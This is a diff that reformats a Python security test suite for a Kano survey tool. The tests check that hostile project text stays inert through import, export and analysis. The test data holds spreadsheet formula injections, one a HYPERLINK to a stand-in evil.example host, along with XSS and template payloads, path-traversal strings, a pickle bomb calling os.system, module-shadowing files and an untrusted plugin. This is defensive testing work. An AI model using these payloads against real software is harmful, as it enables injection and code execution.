@@ -52,12 +52,19 @@ def hostile_texts(marker: Path) -> list[str]:
     code = f"__import__('os').system('touch {marker}')"
     return [
         f'=HYPERLINK("http://evil.example/?{CANARY}","click")',
-        f"+SUM(1+1) {CANARY}", f"-2+3 {CANARY}", f"@SUM(A1) {CANARY}", f"\t=1+1 {CANARY}",
+        f"+SUM(1+1) {CANARY}",
+        f"-2+3 {CANARY}",
+        f"@SUM(A1) {CANARY}",
+        f"\t=1+1 {CANARY}",
         f"\r=1+1 {CANARY}",
-        f"<script>alert('{CANARY}')</script>", f'"><img src=x onerror=alert(1)> {CANARY}',
-        f"</style></title><svg onload=alert(1)> {CANARY}", f"{{{{7*7}}}} ${{7*7}} {CANARY}",
-        f"[x](javascript:alert(1)) {CANARY}", f"{code} # {CANARY}",
-        f"../../../etc/passwd {CANARY}", f"[bold red]{CANARY}[/]",
+        f"<script>alert('{CANARY}')</script>",
+        f'"><img src=x onerror=alert(1)> {CANARY}',
+        f"</style></title><svg onload=alert(1)> {CANARY}",
+        f"{{{{7*7}}}} ${{7*7}} {CANARY}",
+        f"[x](javascript:alert(1)) {CANARY}",
+        f"{code} # {CANARY}",
+        f"../../../etc/passwd {CANARY}",
+        f"[bold red]{CANARY}[/]",
     ]
 
 
@@ -73,24 +80,48 @@ def build_hostile_project(directory: Path, marker: Path, benign: bool = False) -
     for number, text in enumerate(texts):
         if project.feature(text.strip()) is not None:  # "\t=1+1" and "\r=1+1", once trimmed
             text = f"{text} ({number})"  # two features of one name are refused
-        add_feature(project, text, feature_id=f"f{number}", description=texts[-number - 1],
-                    tags=[texts[(number + 3) % len(texts)]])
+        add_feature(
+            project,
+            text,
+            feature_id=f"f{number}",
+            description=texts[-number - 1],
+            tags=[texts[(number + 3) % len(texts)]],
+        )
     stage = project.stages[0]
     stage.name = texts[8]
-    project.touchpoints.append(Touchpoint(id="t1", stage=stage.id, name=texts[7],
-                                          channel=texts[0], pain_points=[texts[1]],
-                                          opportunities=[texts[9]], features=["f0"]))
-    project.kpi_periods.append(KpiPeriod(label=texts[2], customers_start=100,
-                                         customers_end=95, customers_new=10,
-                                         customers_new_by_referral=3, referrals_made=9))
+    project.touchpoints.append(
+        Touchpoint(
+            id="t1",
+            stage=stage.id,
+            name=texts[7],
+            channel=texts[0],
+            pain_points=[texts[1]],
+            opportunities=[texts[9]],
+            features=["f0"],
+        )
+    )
+    project.kpi_periods.append(
+        KpiPeriod(
+            label=texts[2],
+            customers_start=100,
+            customers_end=95,
+            customers_new=10,
+            customers_new_by_referral=3,
+            referrals_made=9,
+        )
+    )
     workspace.save()
     header = ["respondent", "wave", texts[3], "nps"]
     for number in range(len(texts)):
         header += [f"f{number}.functional", f"f{number}.dysfunctional"]
     rows = []
     for r in range(12):
-        row = [f"{texts[r % len(texts)][:20]}-{r}", texts[(r % 2) * 4], texts[r % len(texts)],
-               str(r % 11)]
+        row = [
+            f"{texts[r % len(texts)][:20]}-{r}",
+            texts[(r % 2) * 4],
+            texts[r % len(texts)],
+            str(r % 11),
+        ]
         row += [str(1 + (r + n) % 5) for n in range(2 * len(texts))]
         rows.append(row)
     buffer = io.StringIO()
@@ -108,15 +139,21 @@ def hostile(tmp_path: Path) -> tuple[Path, Path]:
     return build_hostile_project(tmp_path / "hostile", marker).directory, marker
 
 
-def guarded(project: Path, *args: object, extra_env: dict | None = None,
-            cwd: Path | None = None) -> subprocess.CompletedProcess:
+def guarded(
+    project: Path, *args: object, extra_env: dict | None = None, cwd: Path | None = None
+) -> subprocess.CompletedProcess:
     """A `kano` command (or ``tui``) run under the audit hook of ``guarded.py``."""
     env = {**os.environ, "KANO_CANARY": CANARY, "PYTHONPATH": str(REPO), **(extra_env or {})}
     env.pop("NO_COLOR", None)
     mode = ["tui"] if args == ("tui",) else ["cli", *map(str, args)]
-    return subprocess.run([sys.executable, "-m", "tests.reliability.guarded", str(project),
-                           *mode], capture_output=True, text=True, cwd=cwd or REPO, env=env,
-                          timeout=600)
+    return subprocess.run(
+        [sys.executable, "-m", "tests.reliability.guarded", str(project), *mode],
+        capture_output=True,
+        text=True,
+        cwd=cwd or REPO,
+        env=env,
+        timeout=600,
+    )
 
 
 def assert_clean(result: subprocess.CompletedProcess) -> None:
@@ -139,9 +176,11 @@ def _csv_outputs(project: Path, out: Path) -> dict[str, str]:
         result = run_main("export", project, "-e", name, "-o", target)
         assert result.returncode == 0, result.stderr
         found[f"export {name}"] = target.read_text(encoding="utf-8")
-    for args in (["analyze", project, "--format", "csv"],
-                 ["analyze", project, "--format", "csv", "--by", "wave"],
-                 ["questionnaire", project, "--format", "csv"]):
+    for args in (
+        ["analyze", project, "--format", "csv"],
+        ["analyze", project, "--format", "csv", "--by", "wave"],
+        ["questionnaire", project, "--format", "csv"],
+    ):
         result = run_main(*args)
         assert result.returncode == 0, result.stderr
         found[" ".join(map(str, args[::2]))] = result.stdout
@@ -181,8 +220,7 @@ def test_an_imported_formula_stays_inert_in_every_export(hostile, tmp_path: Path
         for path in tmp_path.glob(f"{name}*"):
             if path.suffix in (".csv", ".tsv") or name.endswith("csv"):
                 for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
-                    live = [c for c in row if c.startswith(FORMULA_PREFIXES)
-                            and not _is_number(c)]
+                    live = [c for c in row if c.startswith(FORMULA_PREFIXES) and not _is_number(c)]
                     assert not live, (name, live)
 
 
@@ -209,9 +247,11 @@ class _Structure(html.parser.HTMLParser):
         if tag == "svg":
             self.in_svg += 1
         (self.svg_elements if self.in_svg and tag != "svg" else self.elements)[tag] += 1
-        self.handlers += [f"{tag} {name}" for name, value in attrs
-                          if name.startswith("on")
-                          or (value or "").strip().lower().startswith("javascript:")]
+        self.handlers += [
+            f"{tag} {name}"
+            for name, value in attrs
+            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:")
+        ]
 
 
 def _structure(text: str) -> _Structure:
@@ -250,13 +290,21 @@ def test_the_mermaid_journey_cannot_be_given_extra_statements(tmp_path: Path) ->
     lines = {}
     for workspace in (hostile, benign):
         target = tmp_path / f"{workspace.directory.name}.mmd"
-        assert run_main("export", workspace.directory, "-e", "mermaid-journey",
-                        "-o", target).returncode == 0
+        assert (
+            run_main(
+                "export", workspace.directory, "-e", "mermaid-journey", "-o", target
+            ).returncode
+            == 0
+        )
         lines[workspace.directory.name] = target.read_text(encoding="utf-8").splitlines()
+
     def statements(text_lines: list[str]) -> list[str]:
         """Each line's kind: a keyword (journey, title, section) or a task."""
-        return [line.split()[0] if line.split()[0] in ("journey", "title", "section")
-                else "task" for line in text_lines if line.strip()]
+        return [
+            line.split()[0] if line.split()[0] in ("journey", "title", "section") else "task"
+            for line in text_lines
+            if line.strip()
+        ]
 
     assert statements(lines["hostile"]) == statements(lines["benign"])
     assert not any("%%" in line or line.split()[0] == "click" for line in lines["hostile"])
@@ -289,14 +337,19 @@ def test_exports_never_write_outside_the_chosen_place(hostile, tmp_path: Path) -
 
 
 @settings(max_examples=200, deadline=None)
-@given(name=st.text(max_size=60), exporter=st.text(max_size=30),
-       extension=st.sampled_from([".csv", ".html", ".md", "/../../x", "\\..\\x", ""]))
+@given(
+    name=st.text(max_size=60),
+    exporter=st.text(max_size=30),
+    extension=st.sampled_from([".csv", ".html", ".md", "/../../x", "\\..\\x", ""]),
+)
 def test_a_default_export_path_always_stays_in_the_exports_directory(
-        name: str, exporter: str, extension: str) -> None:
+    name: str, exporter: str, extension: str
+) -> None:
     directory = Path("/project")
     workspace = Workspace(directory, load_project_stub(name))
-    target = default_destination(workspace, extension if extension.startswith(".") else "",
-                                 exporter)
+    target = default_destination(
+        workspace, extension if extension.startswith(".") else "", exporter
+    )
     assert target.parent == directory / EXPORTS_DIR
     assert ".." not in target.name.split("/") and "/" not in target.name
 
@@ -307,10 +360,13 @@ def load_project_stub(name: str):  # type: ignore[no-untyped-def]
     return Project.create(name)
 
 
-@pytest.mark.parametrize("import_id", ["../../../victim", "/tmp/victim", "..", "a/../../b",
-                                       "responses/../../victim", ".hidden", ""])
+@pytest.mark.parametrize(
+    "import_id",
+    ["../../../victim", "/tmp/victim", "..", "a/../../b", "responses/../../victim", ".hidden", ""],
+)
 def test_a_stored_data_path_from_kano_toml_cannot_leave_responses(
-        import_id: str, tmp_path: Path, project_with_responses) -> None:  # type: ignore[no-untyped-def]
+    import_id: str, tmp_path: Path, project_with_responses
+) -> None:  # type: ignore[no-untyped-def]
     project = project_with_responses()
     victim = tmp_path / "victim.arrow"
     victim.write_bytes(b"precious")
@@ -338,9 +394,13 @@ def test_no_project_text_is_ever_evaluated_and_nothing_connects(hostile, tmp_pat
     second = tmp_path / "wave.csv"
     second.write_text("respondent,f0.functional,f0.dysfunctional\nnew-1,1,5\n")
     commands = [
-        ["analyze", project], ["analyze", project, "--format", "json", "--by", "wave"],
-        ["backlog", project], ["questionnaire", project], ["imports", project],
-        ["features", "list", project], ["plugins", "list", project],
+        ["analyze", project],
+        ["analyze", project, "--format", "json", "--by", "wave"],
+        ["backlog", project],
+        ["questionnaire", project],
+        ["imports", project],
+        ["features", "list", project],
+        ["plugins", "list", project],
         ["import", project, second],
         *[["export", project, "-e", name] for name in EXPORTERS],
     ]
@@ -356,6 +416,7 @@ def _pickle_bomb(marker: Path) -> bytes:
     class Bomb:
         def __reduce__(self):  # type: ignore[no-untyped-def]
             return (os.system, (f"touch {marker}",))
+
     return pickle.dumps(Bomb())
 
 
@@ -367,9 +428,14 @@ def test_stored_responses_are_never_unpickled(tmp_path: Path, project_with_respo
     project = project_with_responses()
     data = next((project / "responses").iterdir())
     table = feather.read_table(data)
-    field = pa.field("camera.extra", pa.binary(), metadata={
-        b"ARROW:extension:name": b"arrow.py_extension_type",
-        b"ARROW:extension:metadata": bomb})
+    field = pa.field(
+        "camera.extra",
+        pa.binary(),
+        metadata={
+            b"ARROW:extension:name": b"arrow.py_extension_type",
+            b"ARROW:extension:metadata": bomb,
+        },
+    )
     poisoned = table.append_column(field, pa.array([b"x"] * table.num_rows, pa.binary()))
     poisoned = poisoned.replace_schema_metadata({b"pandas": bomb})
     feather.write_feather(poisoned, data)
@@ -377,10 +443,14 @@ def test_stored_responses_are_never_unpickled(tmp_path: Path, project_with_respo
     # checksum, so that the Arrow reader itself is what meets the poisoned schema.
     recorded = project / "kano.toml"
     record = load_project(project).imports[0]
-    recorded.write_text(recorded.read_text().replace(
-        record.data_sha256, hashlib.sha256(data.read_bytes()).hexdigest()))
-    assert_clean(guarded(project, "analyze", project,
-                         "--next", "export", project, "-e", "responses-json"))
+    recorded.write_text(
+        recorded.read_text().replace(
+            record.data_sha256, hashlib.sha256(data.read_bytes()).hexdigest()
+        )
+    )
+    assert_clean(
+        guarded(project, "analyze", project, "--next", "export", project, "-e", "responses-json")
+    )
     data.write_bytes(bomb)
     result = guarded(project, "analyze", project)
     assert_clean(result)
@@ -388,7 +458,9 @@ def test_stored_responses_are_never_unpickled(tmp_path: Path, project_with_respo
     assert not marker.exists()
 
 
-def test_modules_in_the_project_directory_never_shadow_kanos(tmp_path: Path, project_with_responses) -> None:  # type: ignore[no-untyped-def]
+def test_modules_in_the_project_directory_never_shadow_kanos(
+    tmp_path: Path, project_with_responses
+) -> None:  # type: ignore[no-untyped-def]
     """`kano` run from inside a project that holds click.py, pandas.py, json.py: the
     console script imports the real ones."""
     marker = tmp_path / "PWNED"
@@ -396,23 +468,44 @@ def test_modules_in_the_project_directory_never_shadow_kanos(tmp_path: Path, pro
     for module in ("click", "pandas", "json", "tomllib", "kano_tui", "sitecustomize"):
         (project / f"{module}.py").write_text(f"open({str(marker)!r}, 'w').write('{module}')\n")
     kano = Path(sys.executable).parent / "kano"
-    result = subprocess.run([str(kano), "analyze", "."], cwd=project, capture_output=True,
-                            text=True, timeout=300)
+    result = subprocess.run(
+        [str(kano), "analyze", "."], cwd=project, capture_output=True, text=True, timeout=300
+    )
     assert result.returncode == 0, result.stderr
     assert not marker.exists(), marker.read_text()
 
 
 # --------------------------------------------------------------------------- plugins
 
-def test_a_project_plugin_runs_only_after_explicit_trust(tmp_path: Path, project_with_responses) -> None:  # type: ignore[no-untyped-def]
+
+def test_a_project_plugin_runs_only_after_explicit_trust(
+    tmp_path: Path, project_with_responses
+) -> None:  # type: ignore[no-untyped-def]
     marker = tmp_path / "PWNED"
     project = project_with_responses()
     (project / "plugins").mkdir()
     (project / "plugins" / "evil.py").write_text(EVIL_PLUGIN.format(marker=str(marker)))
     # Running a file of the project would stop the guard with exit code 99.
-    assert_clean(guarded(project, "analyze", project, "--next", "plugins", "list", project,
-                         "--next", "features", "list", project,
-                         "--next", "export", project, "-e", "json"))
+    assert_clean(
+        guarded(
+            project,
+            "analyze",
+            project,
+            "--next",
+            "plugins",
+            "list",
+            project,
+            "--next",
+            "features",
+            "list",
+            project,
+            "--next",
+            "export",
+            project,
+            "-e",
+            "json",
+        )
+    )
     assert not marker.exists()  # (the TUI is opened on such a project above)
     listed = run_main("plugins", "list", project)
     assert "evil" in listed.stdout + listed.stderr and "not trusted" in listed.stderr
@@ -436,8 +529,10 @@ def test_the_guard_itself_catches_a_connection(tmp_path: Path, project_with_resp
     that connects is stopped with the guard's exit code."""
     project = project_with_responses()
     plugin = tmp_path / "phone_home.py"
-    plugin.write_text("import socket\ntry:\n    socket.create_connection(('127.0.0.1', 9), 1)\n"
-                      "except OSError:\n    pass\n")
+    plugin.write_text(
+        "import socket\ntry:\n    socket.create_connection(('127.0.0.1', 9), 1)\n"
+        "except OSError:\n    pass\n"
+    )
     result = guarded(project, "--plugin", plugin, "analyze", project)
     assert result.returncode == 99 and "FORBIDDEN socket" in result.stderr, result.stderr
 
@@ -448,15 +543,18 @@ def test_the_guard_itself_catches_evaluated_project_text(project_with_responses)
     project = project_with_responses()
     text = (project / "kano.toml").read_text()
     (project / "kano.toml").write_text(text.replace('name = "project"', f'name = "{CANARY}"'))
-    code = "\n".join([
-        "import sys, tomllib",
-        f"sys.argv = ['guarded', {str(project)!r}, 'cli']",
-        "from tests.reliability import guarded",
-        "sys.addaudithook(guarded.hook)",
-        f"name = tomllib.loads(open({str(project / 'kano.toml')!r}).read())['project']['name']",
-        "eval(repr(name))",
-    ])
+    code = "\n".join(
+        [
+            "import sys, tomllib",
+            f"sys.argv = ['guarded', {str(project)!r}, 'cli']",
+            "from tests.reliability import guarded",
+            "sys.addaudithook(guarded.hook)",
+            f"name = tomllib.loads(open({str(project / 'kano.toml')!r}).read())['project']['name']",
+            "eval(repr(name))",
+        ]
+    )
     env = {**os.environ, "KANO_CANARY": CANARY, "PYTHONPATH": str(REPO)}
-    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
-                            cwd=REPO, env=env)
+    result = subprocess.run(
+        [sys.executable, "-c", code], capture_output=True, text=True, cwd=REPO, env=env
+    )
     assert result.returncode == 99 and "FORBIDDEN compile" in result.stderr, result.stderr
